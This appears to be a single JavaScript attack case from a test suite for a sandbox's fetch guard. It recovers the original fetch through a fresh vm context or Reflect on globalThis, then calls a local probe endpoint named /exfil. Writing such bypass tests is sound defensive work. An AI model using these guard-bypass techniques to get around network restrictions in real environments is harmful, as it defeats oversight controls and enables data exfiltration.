/* @attack {"title": "fetch taken from a fresh vm context or Reflect on globalThis before the guard replaced it"} */
import vm from 'node:vm';
const candidates = [vm.runInNewContext('typeof fetch === "function" ? fetch : undefined'), Reflect.get(globalThis, 'fetch'), globalThis.fetch];
const f = candidates.find((c) => typeof c === 'function');
await f(`http://127.0.0.1:${process.env.PROBE_PORT}/exfil`);
